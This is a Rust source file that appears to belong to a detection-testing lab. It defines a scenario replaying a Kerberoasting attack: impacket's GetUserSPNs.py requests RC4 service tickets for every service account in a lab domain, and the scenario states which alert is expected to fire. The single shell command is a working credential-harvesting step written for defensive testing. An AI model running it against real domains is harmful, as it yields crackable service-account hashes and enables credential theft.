//! Kerberoasting by impacket: the accounts with a service principal name are listed over LDAP, then
//! an RC4 ticket is asked for each by its account's name. Samba refuses impacket's checksum; an
//! attempt is an attack all the same.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "kerberoast-getuserspns",
    "Kerberoasting of every service account, RC4, refused (impacket)",
    Tool::python("GetUserSPNs.py", "impacket"),
    &[Expected {
        external_id: 2410,
        source: ATTACKER,
        account: Some("mallory@hawk.example"),
        targets: &[],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(
        r#"env -u KRB5CCNAME GetUserSPNs.py "$DOMAIN/mallory:$PASSWORD" -dc-ip "$DC" -request |
               grep -E 'krb5tgs|Principal: .*svc_sql'"#,
    )?;
    Ok(())
}
